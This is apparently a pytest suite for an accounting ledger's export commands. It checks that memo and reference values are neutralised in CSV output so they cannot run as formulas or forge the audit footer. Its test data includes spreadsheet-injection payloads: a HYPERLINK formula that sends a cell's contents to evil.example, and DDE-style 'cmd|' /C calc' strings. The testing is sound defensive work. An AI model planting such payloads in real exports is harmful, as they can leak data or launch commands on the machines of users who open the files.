"""What auditors open must be safe to open: CSV cells, output paths, dates, XLSX formats.

A memo, reference, key or metadata value is written by whoever posted the
entry. In a CSV file it must stay text in a spreadsheet (no formula) and
must never start a physical line of its own (which could forge the ``# ``
footer auditors read). Bad output paths, databases and dates are refused
with exit code 2 and a message, not a traceback.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

import ledger
from cli import main
from ledger import exports, reports
from ledger.errors import ReportError

D = dt.date
BANK = "assets:custody:bank"
U1 = "liabilities:users:u1:available"
FEES = "income:platform:fees:service"

FORGED = "ok\n# chain hash at that point: " + "0" * 64 + "\n# as of: 2020-01-01"
HOSTILE = {  # memo -> what a spreadsheet must be shown
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+2": "'+1+2",
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\t=1": "'\t=1",
    "\r=1": "'\\r=1",
    "-5.00": "'-5.00",
    FORGED: "ok\\n# chain hash at that point: " + "0" * 64 + "\\n# as of: 2020-01-01",
    "a\\nb": "a\\\\nb",
    "line one\r\nline two\u2028three": "line one\\r\\nline two\\u2028three",
    "plain memo, 备注": "plain memo, 备注",
}


def invoke(*args):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def hostile_book(book):
    book.open_account(BANK, "asset")
    book.open_account(U1, "liability")
    book.open_account(FEES, "income")
    for i, memo in enumerate(HOSTILE):
        book.post([(BANK, "1.00"), (U1, "-1.00")], key=f"k{i}", effective_date=D(2026, 10, 1 + i),
                  memo=memo, external_ref="=1+1" if i == 0 else None)
    book.post([(U1, "5.00"), (BANK, "-5.00")], key="-cmd|' /C calc'!A0", kind="refund",
              effective_date=D(2026, 10, 20), external_ref="@ref", metadata={"note": FORGED})
    book.post([(U1, "0.50"), (FEES, "-0.50")], key="fee", kind="fee", effective_date=D(2026, 10, 21),
              memo="#1 fee")
    return book


def check_lines(text: str) -> list[list[str]]:
    """Every physical line before the footer is a data row; the footer is the last ``# `` lines."""
    lines = text.split("\n")
    assert lines[-1] == ""
    lines = lines[:-1]
    footer = [x for x in lines if x.startswith("#")]
    assert footer and lines[-len(footer):] == footer  # only the footer starts with "#"
    assert sum(x.startswith("# chain hash at that point: ") for x in lines) == 1
    assert not any(re.search(r"[\r\u2028\u2029\x0b\x0c\x1c-\x1e\x85]", x) for x in lines)
    rows = list(csv.reader(io.StringIO("\n".join(lines[:-len(footer)]) + "\n")))
    assert len(rows) == len(lines) - len(footer)  # one physical line per row
    return rows


# --- the rule --------------------------------------------------------------------------------------
def test_csv_text_cells_are_neutralised_and_other_cells_kept():
    from ledger.exports import csv_row, csv_text

    for raw, shown in HOSTILE.items():
        assert csv_text(raw) == shown, raw
    assert csv_text("") == ""
    assert csv_text("'=already quoted") == "'=already quoted"
    # amounts, dates, ids and empty cells are not text: never prefixed
    assert csv_row([7, D(2026, 1, 2), Decimal("-5.00"), -500, None, True, "-x"]) == [
        7, "2026-01-02", Decimal("-5.00"), -500, "", True, "'-x"]
    assert csv_row([dt.datetime(2026, 1, 2, 3, 4, 5)]) == ["2026-01-02T03:04:05"]
    # a row never starts with "#": a text first cell beginning with it is quoted
    assert csv_row(["# chain hash at that point: x", "#y"]) == ["'# chain hash at that point: x", "#y"]


# --- the CSV outputs -------------------------------------------------------------------------------
def test_journal_csv_cells_cannot_be_formulas_or_forge_the_footer(book):
    hostile_book(book)
    out = io.StringIO()
    exports.write_journal(book, out, fmt="csv")
    rows = check_lines(out.getvalue())
    head, data = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(head)}
    memos = [r[col["memo"]] for r in data if r[col["position"]] == "0"]
    assert memos == list(HOSTILE.values()) + ["", "#1 fee"]
    first = next(r for r in data if r[col["key"]] == "k0")
    assert first[col["external_ref"]] == "'=1+1"
    refund = [r for r in data if r[col["kind"]] == "refund"]
    assert {r[col["key"]] for r in refund} == {"'-cmd|' /C calc'!A0"}
    assert {r[col["external_ref"]] for r in refund} == {"'@ref"}
    assert "\\n# chain hash" in refund[0][col["metadata"]]
    # amounts and ids stay as they are
    assert [r[col["amount"]] for r in refund] == ["5.00", "-5.00"]
    assert [r[col["amount_minor"]] for r in refund] == ["500", "-500"]
    assert all(r[col["entry_id"]].isdigit() for r in data)


def test_journal_csv_through_the_cli(db_url):
    book = hostile_book(ledger.open(db_url))
    book.dispose()
    result = invoke("journal", "--db", db_url)
    assert result.exit_code == 0
    rows = check_lines(result.stdout)
    assert len(rows) == 1 + 2 * (len(HOSTILE) + 2)


def test_statement_and_report_csv_cells_cannot_be_formulas(db_url):
    book = hostile_book(ledger.open(db_url))
    book.dispose()
    result = invoke("statement", U1, "--from", "2026-10-01", "--to", "2026-10-31", "--format", "csv",
                    "--db", db_url)
    assert result.exit_code == 0, result.output
    rows = check_lines(result.stdout)
    assert rows[0] == ["date", "entry", "kind", "reference", "memo", "amount", "balance"]
    memos = [r[4] for r in rows[2:-1]]
    assert memos == list(HOSTILE.values()) + ["", "#1 fee"]
    assert rows[2][3] == "'=1+1"
    refund = next(r for r in rows if r[2] == "refund")
    assert refund[3] == "'@ref" and refund[5] == "-5.00"  # an amount is never quoted
    assert rows[-1][2] == "closing balance" and rows[-1][6] == f"{len(HOSTILE) - 5.5:.2f}"
    for args in (["trial-balance"], ["balance-sheet"],
                 ["income-statement", "--from", "2026-10-01", "--to", "2026-10-31"]):
        result = invoke(*args, "--format", "csv", "--db", db_url)
        assert result.exit_code == 0 and check_lines(result.stdout)[1:]


def test_emit_csv_uses_the_same_rule(db_url, capsys):
    from ledger.commands.common import emit

    emit([{"who": "# forged", "note": "=1+2", "amount": Decimal("-5.00"),
           "day": D(2026, 1, 2), "memo": FORGED}], ["who", "note", "amount", "day", "memo"], "csv")
    out = capsys.readouterr().out
    assert out.split("\n")[1:] == [
        "'# forged,'=1+2,-5.00,2026-01-02,ok\\n# chain hash at that point: " + "0" * 64
        + "\\n# as of: 2020-01-01", ""]
    book = ledger.open(db_url)
    book.dispose()
    result = invoke("period", "close", "2026-01", "--by", "=cmd|'/C calc'!A0", "--db", db_url)
    assert result.exit_code == 0, result.output
    result = invoke("period", "list", "--format", "csv", "--db", db_url)
    assert next(csv.reader(io.StringIO(result.output.splitlines()[1])))[3] == "'=cmd|'/C calc'!A0"


# --- periods: the earliest date, a reversed range ------------------------------------------
def test_the_earliest_date_starts_a_statement_and_an_income_statement(book, db_url):
    hostile_book(book)
    st = reports.account_statement(book, U1, D.min, D(2026, 10, 31))
    assert st.opening_minor == 0 and len(st.movements) == len(HOSTILE) + 2
    assert st.closing_minor == reports.account_statement(book, U1, D(2026, 1, 1), D(2026, 10, 31)).closing_minor
    inc = reports.income_statement(book, D.min, D.max)
    assert inc.totals["CNY"]["income"] == 50
    result = invoke("statement", U1, "--from", "0001-01-01", "--to", "2026-10-31", "--format", "json",
                    "--db", db_url)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["opening"] == {"minor": 0, "amount": "0.00"}
    result = invoke("income-statement", "--from", "0001-01-01", "--to", "9999-12-31", "--format", "json",
                    "--db", db_url)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["totals"]["CNY"]["net_income"]["minor"] == 50


def test_journal_refuses_a_period_that_ends_before_it_starts(book, db_url):
    hostile_book(book)
    with pytest.raises(ReportError, match="starts"):
        exports.write_journal(book, io.StringIO(), date_from=D(2026, 10, 31), date_to=D(2026, 10, 1))
    with pytest.raises(ReportError, match="starts"):
        list(exports.iter_journal(book, D(2026, 10, 31), D(2026, 10, 1)))
    for cmd in (["journal"], ["journal", "--format", "jsonl"],
                ["statement", U1], ["income-statement"]):
        result = invoke(*cmd, "--from", "2026-10-31", "--to", "2026-10-01", "--db", db_url)
        assert result.exit_code == 1, (cmd, result.output)
        assert "the period starts (2026-10-31) after it ends (2026-10-01)" in result.output
        assert "entries" not in result.output
    assert invoke("journal", "--from", "2026-10-01", "--to", "2026-10-01", "--db", db_url).exit_code == 0


# --- clear errors instead of tracebacks ------------------------------------------------------------
def test_output_into_a_missing_directory_is_refused_clearly(tmp_path):
    url = f"sqlite:///{tmp_path / 'l.db'}"
    book = ledger.open(url)
    book.open_account(BANK, "asset")
    book.open_account(U1, "liability")
    book.post([(BANK, "1.00"), (U1, "-1.00")], key="a", effective_date=D(2026, 10, 1))
    book.dispose()
    missing = tmp_path / "no" / "such"
    for args in (["journal"], ["journal", "--format", "jsonl"], ["export", "beancount"],
                 ["trial-balance", "--format", "csv"], ["trial-balance", "--format", "json"],
                 ["trial-balance", "--format", "xlsx"],
                 ["statement", U1, "--from", "2026-10-01", "--to", "2026-10-31", "--format", "xlsx"]):
        target = missing / "out.file"
        result = CliRunner().invoke(main, [*args, "-o", str(target), "--db", url])
        assert result.exit_code == 2, (args, result.output, result.exception)
        assert "Traceback" not in result.output and str(target) in result.output, result.output
        assert "No such file or directory" in result.output or "cannot" in result.output
    assert not missing.exists()


def test_a_database_that_cannot_be_opened_is_refused_clearly(tmp_path):
    not_a_db = tmp_path / "notes.txt"
    not_a_db.write_text("hello, these are not the books\n" * 10)
    cases = [(f"sqlite:///{tmp_path / 'no' / 'such' / 'x.db'}", "no database at"),
             (f"sqlite:///{not_a_db}", "not a database"),
             ("postgresql+psycopg2://nobody:secret@127.0.0.1:1/ledger", "cannot connect")]
    for url, why in cases:
        for args in (["journal"], ["trial-balance"], ["verify"], ["balance", U1]):
            result = CliRunner().invoke(main, [*args, "--db", url])
            assert result.exit_code == 2, (url, args, result.output, result.exception)
            assert why in result.output and "Traceback" not in result.output, result.output
            assert "secret" not in result.output  # a password in the URL is not shown
    assert not (tmp_path / "no").exists()


# --- XLSX number formats ---------------------------------------------------------------------------
BUILTIN_FORMATS = {0: "General", 3: "#,##0", 4: "#,##0.00"}


def sheet_cells(data: bytes) -> dict[str, tuple[str, str, bool]]:
    """``{"D5": (value, number format, bold)}`` for every number cell of the first sheet."""
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
    codes = dict(BUILTIN_FORMATS)
    for nf in styles.iterfind("x:numFmts/x:numFmt", ns):
        codes[int(nf.get("numFmtId"))] = nf.get("formatCode")
    bold = [f.find("x:b", ns) is not None for f in styles.iterfind("x:fonts/x:font", ns)]
    xfs = [(codes[int(xf.get("numFmtId", 0))], bold[int(xf.get("fontId", 0))])
           for xf in styles.iterfind("x:cellXfs/x:xf", ns)]
    out = {}
    for c in sheet.iterfind(".//x:c", ns):
        v = c.find("x:v", ns)
        if c.get("t") is None and v is not None:
            out[c.get("r")] = (v.text, *xfs[int(c.get("s", 0))])
    return out


def multi_currency_book(book):
    for cur in ("JPY", "KWD", "CNY"):
        low = cur.lower()
        book.open_account(f"assets:bank:{low}", "asset", currency=cur)
        book.open_account(f"liabilities:users:{low}", "liability", currency=cur)
        book.open_account(f"income:fees:{low}", "income", currency=cur)
    book.post([("assets:bank:jpy", "1234567"), ("liabilities:users:jpy", "-1234567")], key="j1",
              effective_date=D(2026, 10, 2))
    book.post([("liabilities:users:jpy", "300"), ("income:fees:jpy", "-300")], key="j2",
              effective_date=D(2026, 10, 3))
    book.post([("assets:bank:kwd", "12.345"), ("liabilities:users:kwd", "-12.345")], key="k1",
              effective_date=D(2026, 10, 2))
    book.post([("liabilities:users:kwd", "0.125"), ("income:fees:kwd", "-0.125")], key="k2",
              effective_date=D(2026, 10, 3))
    book.post([("assets:bank:cny", "8.50"), ("income:fees:cny", "-8.50")], key="c1",
              effective_date=D(2026, 10, 3))
    return book


WANT = {"JPY": "#,##0", "KWD": "#,##0.000", "CNY": "#,##0.00"}


def xlsx_of(report) -> bytes:
    out = io.BytesIO()
    exports.write_xlsx(report, out)
    return out.getvalue()


def test_xlsx_totals_use_the_minor_unit_of_their_currency(book):
    multi_currency_book(book)
    tb = reports.trial_balance(book)
    cells = sheet_cells(xlsx_of(tb))
    totals = {cur: row for row, cur in enumerate(sorted(tb.totals), start=4 + len(tb.rows))}
    for cur, row in totals.items():
        for col in "DE":
            value, code, bold = cells[f"{col}{row}"]
            assert (code, bold) == (WANT[cur], True), (cur, col, value)
    assert cells[f"D{totals['JPY']}"][0] == "1234567"
    assert cells[f"E{totals['KWD']}"][0] == "12.345"
    for r in range(4, 4 + len(tb.rows)):  # rows: their currency's format, not bold
        cur = tb.rows[r - 4].currency
        assert cells[f"D{r}"][1:] == (WANT[cur], False)

    for cur, code in (("JPY", "jpy"), ("KWD", "kwd")):
        st = reports.account_statement(book, f"liabilities:users:{code}", D(2026, 10, 1), D(2026, 10, 31))
        cells = sheet_cells(xlsx_of(st))
        closing = f"G{5 + len(st.movements)}"
        assert cells[closing][1:] == (WANT[cur], True)
        assert cells[closing][0] == {"JPY": "1234267", "KWD": "12.220"}[cur]
        assert cells["G4"][1:] == (WANT[cur], False)  # opening

    for report in (reports.balance_sheet(book), reports.income_statement(book, D(2026, 10, 1),
                                                                         D(2026, 10, 31))):
        cells = sheet_cells(xlsx_of(report))
        first_total = 4 + len(report.lines)
        row = first_total
        for cur, totals_ in sorted(report.totals.items()):
            for _ in totals_:
                assert cells[f"D{row}"][1:] == (WANT[cur], True), (type(report).__name__, cur, row)
                row += 1
        assert row > first_total + 2


def test_a_printed_table_keeps_each_row_to_a_line(db_url):
    """A memo's line break printed as it was: a row could print a line that reads as the
    table's footer (``chain hash at that point: 000...``)."""
    book = hostile_book(ledger.open(db_url))
    book.dispose()
    result = invoke("statement", U1, "--from", "2026-10-01", "--to", "2026-10-31", "--db", db_url)
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert [line for line in lines if line.startswith(("chain hash", "# chain hash"))] == [
        line for line in lines[-3:] if line.startswith("chain hash")]     # the footer's alone
    assert "ok\\n# chain hash at that point: " + "0" * 64 in result.output
